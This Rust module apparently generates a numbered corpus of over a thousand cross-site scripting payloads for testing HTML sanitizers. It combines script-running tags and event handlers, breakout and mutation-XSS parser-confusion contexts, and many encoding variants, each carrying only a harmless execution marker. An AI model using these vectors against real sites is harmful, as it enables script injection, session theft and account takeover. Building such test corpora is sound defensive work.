//! The grammar: what runs, what stands around it, how it is written down.

use std::collections::BTreeSet;

/// What runs by itself. `@` is where the script stands.
const BASES: &[&str] = &[
    "<script>@</script>",
    "<script src=data:,@></script>",
    "<script type=module>@</script>",
    "<svg><script>@</script></svg>",
    "<img src=x onerror=@>",
    "<img srcset=x onerror=@>",
    "<image src=x onerror=@>",
    "<svg onload=@>",
    "<svg><image href=x onerror=@>",
    "<svg><animate onbegin=@ attributeName=x dur=1s>",
    "<svg><set onbegin=@ attributeName=x dur=1s>",
    "<svg><style onload=@></style></svg>",
    "<body onload=@>",
    "<body onpageshow=@>",
    "<iframe onload=@></iframe>",
    "<iframe src=javascript:@></iframe>",
    "<iframe srcdoc='<script>@</script>'></iframe>",
    "<object data=x onerror=@></object>",
    "<object data=javascript:@></object>",
    "<embed src=javascript:@>",
    "<audio src=x onerror=@></audio>",
    "<video src=x onerror=@></video>",
    "<video><source onerror=@></video>",
    "<video src=x onloadstart=@></video>",
    "<input autofocus onfocus=@>",
    "<input type=image src=x onerror=@>",
    "<select autofocus onfocus=@></select>",
    "<textarea autofocus onfocus=@></textarea>",
    "<button autofocus onfocus=@>a</button>",
    "<a href=# autofocus onfocus=@ tabindex=0>a</a>",
    "<div contenteditable autofocus onfocus=@ tabindex=0>a</div>",
    "<details open ontoggle=@>a</details>",
    "<style onload=@></style>",
    "<link rel=stylesheet href=data:, onload=@>",
    "<link rel=stylesheet href=http://hostile.invalid/ onerror=@>",
    "<marquee onstart=@>a</marquee>",
    "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=@>",
    "<meta http-equiv=refresh content=0;url=javascript:@>",
    "<base href=javascript:@//>",
    "<form action=javascript:@><button>a</button></form>",
    "<a href=javascript:@>a</a>",
    "<svg><a xlink:href=javascript:@><text y=9>a</text></a></svg>",
    "<math href=javascript:@>a</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:@>a</maction></math>",
    "<x onclick=@ tabindex=1 autofocus onfocus=@>a</x>",
    "<style>@import'http://hostile.invalid/';</style><img src=x onerror=@>",
    "<p style=background:url(http://hostile.invalid/)><img src=x onerror=@>",
    "<turbo-frame src=http://hostile.invalid/ data-hostile=1></turbo-frame><img src=x onerror=@>",
    "<turbo-stream action=append target=main data-hostile=1><template><img src=x onerror=@></template></turbo-stream>",
    "<div data-controller=live data-hostile=1><img src=x onerror=@></div>",
];

/// What stands around it: nothing, an end of what it stands in, or markup that a second reading sees in another way.
const AROUND: &[&str] = &[
    "@",
    "\">@",
    "'>@",
    "-->@",
    "]]>@",
    "</title>@",
    "</textarea>@",
    "</script>@",
    "</style>@",
    "</template>@",
    "</noscript>@",
    "</option></select>@",
    "</svg>@",
    "</turbo-frame>@",
    "\\\">@",
    "{{@}}",
    "<!--><!-- -->@",
    "<template>@</template>",
    "<noscript><p title=\"</noscript>@\">",
    "<svg></p><style><g title=\"</style>@\">",
    "<math><mtext><table><mglyph><style><!--</style>@",
    "<math><annotation-xml encoding=text/html>@",
    "<svg><foreignObject>@",
    "<form><math><mtext></form><form><mglyph><style></math>@",
    "<select><template></select>@",
    "<xmp><p title=\"</xmp>@\">",
    "<svg><desc><![CDATA[</desc>]]>@",
];

/// What has no tag of its own: it leaves the attribute, the address or the script that it stands in.
const BARE: &[&str] = &[
    "\" autofocus onfocus=@ x=\"",
    "' autofocus onfocus=@ x='",
    "x onerror=@ ",
    "\" src=x onerror=@ x=\"",
    "' src=x onerror=@ x='",
    "\" style=animation-name:x onanimationstart=@ x=\"",
    "javascript:@",
    "JaVaScRiPt:@",
    " javascript:@",
    "javascript://%0a@",
    "data:text/html,<script>@</script>",
    "vbscript:@",
    "\";@;\"",
    "';@;'",
    "\\\";@;//",
    "\u{2028}@\u{2028}",
    "${@}",
    "`-@-`",
    "{{constructor.constructor('@')()}}",
    "{% raw %}<img src=x onerror=@>{% endraw %}",
    "<%= @ %>",
    "#{@}",
    "expression(@)",
];

/// Ways to write the same down.
const WRITTEN: &[fn(&str) -> String] = &[
    |text| text.to_owned(),
    changing,
    |text| text.replace(' ', "/"),
    |text| text.replace(' ', "\n"),
    |text| text.replace(' ', "\t"),
    |text| text.replace('<', "&lt;").replace('>', "&gt;"),
    |text| text.replace('<', "&#60;").replace('>', "&#x3e;"),
    |text| text.replace('<', "&amp;lt;").replace('>', "&amp;gt;"),
    |text| text.replace('<', "%3C").replace('>', "%3E").replace(' ', "%20"),
    |text| text.replace('<', "\\u003c").replace('>', "\\u003e"),
    |text| {
        text.replace('<', "\u{ff1c}")
            .replace('>', "\u{ff1e}")
            .replace('"', "\u{ff02}")
    },
    |text| {
        text.replace("javascript:", "java&Tab;script&colon;")
            .replace('(', "&lpar;")
    },
    |text| text.replace('(', "&#40;").replace(')', "&#41;"),
    |text| text.replace('>', "").trim_end().to_owned() + " ",
];

/// Names of tags in changing letters; scripts stay as they are.
fn changing(text: &str) -> String {
    let (mut is_name, mut is_even) = (false, false);
    let change = |c: char| {
        is_even = !is_even;
        is_name = c == '<' || (is_name && (c.is_ascii_alphabetic() || c == '/'));
        if is_name && is_even {
            c.to_ascii_uppercase()
        } else {
            c
        }
    };
    text.chars().map(change).collect()
}

/// The script of a text: it adds its number to what ran. Without quotes, blanks and angles it stands anywhere.
const SCRIPT: &str = "(top.__ran??=[]).push(\u{2})";
/// Where its number comes.
const NUMBER: char = '\u{2}';

/// How a text is made, before its number is in it.
fn shapes() -> Vec<String> {
    let mut all = Vec::new();
    let around = AROUND.iter().flat_map(|around| {
        BASES
            .iter()
            .map(move |base| (scripted(&around.replacen('@', base, 1)), *around == "@"))
    });
    for (at, (shape, is_plain)) in around.enumerate() {
        if is_plain {
            all.extend(WRITTEN.iter().map(|written| written(&shape)));
        } else {
            // Each pair once, the ways of writing in turn.
            all.push(WRITTEN[at % 5](&shape));
        }
    }
    for bare in BARE {
        all.extend(WRITTEN.iter().map(|written| written(&scripted(bare))));
    }
    let mut seen = BTreeSet::new();
    all.retain(|shape| shape.contains(NUMBER) && seen.insert(shape.clone()));
    all
}

/// A shape with its script; an `@` that is CSS's own stays.
fn scripted(shape: &str) -> String {
    let kept = shape
        .replace("@keyframes", "\u{1}keyframes")
        .replace("@import", "\u{1}import");
    kept.replace('@', SCRIPT).replace('\u{1}', "@")
}

/// Every text, each with a number of its own, in an order in which neighbours are unlike.
pub fn all() -> Vec<String> {
    let shapes = shapes();
    let step = (1..)
        .map(|number| shapes.len() * 382 / 1_000 + number)
        .find(|step| is_coprime(*step, shapes.len()))
        .unwrap_or(1);
    (0..shapes.len())
        .map(|number| shapes[number * step % shapes.len()].replace(NUMBER, &number.to_string()))
        .collect()
}

fn is_coprime(mut one: usize, mut other: usize) -> bool {
    while other != 0 {
        (one, other) = (other, one % other);
    }
    one == 1
}

/// Texts one after the other, round and round.
#[derive(Debug)]
pub struct Supply {
    all: Vec<String>,
    next: usize,
}

impl Supply {
    /// From this one on.
    pub fn from(first: usize) -> Self {
        Self {
            all: all(),
            next: first,
        }
    }

    /// The next text of up to so many characters; none where no text is as short.
    pub fn within(&mut self, most: usize) -> Option<String> {
        for _ in 0..self.all.len() {
            let text = &self.all[self.next % self.all.len()];
            self.next += 1;
            if text.chars().count() <= most {
                return Some(text.clone());
            }
        }
        None
    }

    /// As many of the next texts as a text of so many characters has room for, at most `count`.
    pub fn many(&mut self, most: usize, count: usize) -> String {
        let mut text = String::new();
        for _ in 0..count {
            let Some(more) = self.within(most.saturating_sub(text.chars().count() + 1)) else {
                break;
            };
            text.push_str(&more);
            text.push(' ');
        }
        text.trim_end().to_owned()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn there_are_more_than_a_thousand_different_texts_and_each_says_its_number() {
        let all = all();
        assert!(all.len() >= 1_000, "{}", all.len());
        let different: BTreeSet<&String> = all.iter().collect();
        assert_eq!(different.len(), all.len());
        let unsaid = all
            .iter()
            .enumerate()
            .find(|(number, text)| !text.contains(&format!("{number}")));
        assert_eq!(unsaid, None);
        assert!(Supply::from(0).within(40).is_some());
    }
}
